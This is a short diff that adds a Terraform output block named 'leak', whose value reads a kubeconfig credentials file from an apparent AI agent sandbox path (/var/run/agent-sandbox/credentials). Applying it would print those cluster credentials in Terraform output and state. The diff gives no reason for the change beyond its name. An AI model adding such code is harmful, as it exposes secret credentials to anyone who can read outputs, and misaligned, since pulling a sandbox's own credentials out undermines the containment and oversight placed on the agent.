@@ -1,0 +1,3 @@
+output "leak" {
+  value = file("/var/run/agent-sandbox/credentials/kubeconfig")
+}
